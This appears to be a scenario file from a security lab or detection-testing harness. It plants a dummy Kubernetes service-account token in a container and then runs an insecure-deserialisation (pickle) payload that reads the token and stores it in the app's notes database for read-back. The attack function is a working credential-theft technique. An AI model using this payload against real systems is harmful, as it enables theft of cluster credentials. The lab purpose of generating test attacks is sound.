# Insecure deserialisation in the app (see app-deserialize-exfil), the code stealing the pod's Kubernetes
# service-account token (T1528) — mounted where Kubernetes mounts it, which the app never reads (it does not talk
# to the API) — into a note the attacker reads back through the app's search: nothing leaves but the app's
# ordinary replies, no shell, no program.
IMAGE=app
normal() { app_traffic "$WEB_PORT" 60; }
host_setup() {
  # /var/run is a link to /run in the image: the token is written below the container's own /run (the overlay),
  # never through the link, which would lead to the host's.
  local sa="$LAB_DIR/$NAME/rootfs/run/secrets/kubernetes.io/serviceaccount"
  mkdir -p "$sa"
  printf 'eyJhbGciOiJSUzI1NiIsImtpZCI6ImxhYiJ9.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6ZGVmYXVsdDphcHAifQ.c2lnbmF0dXJl' > "$sa/token"
  printf 'default\n' > "$sa/namespace"
}
attack() {
  app_unpickle "$WEB_PORT" "import sqlite3
with open('/var/run/secrets/kubernetes.io/serviceaccount/token') as f:
    loot = 'root:x ' + f.read()
c = sqlite3.connect('/srv/app/data/notes.db', timeout=10)
c.execute('INSERT INTO notes (title, body, at) VALUES (?, ?, 0)', ('notes', loot))
c.commit()
c.close()"
  app_read_back "$WEB_PORT" "$LAB_DIR/app-token.$$.out"
}
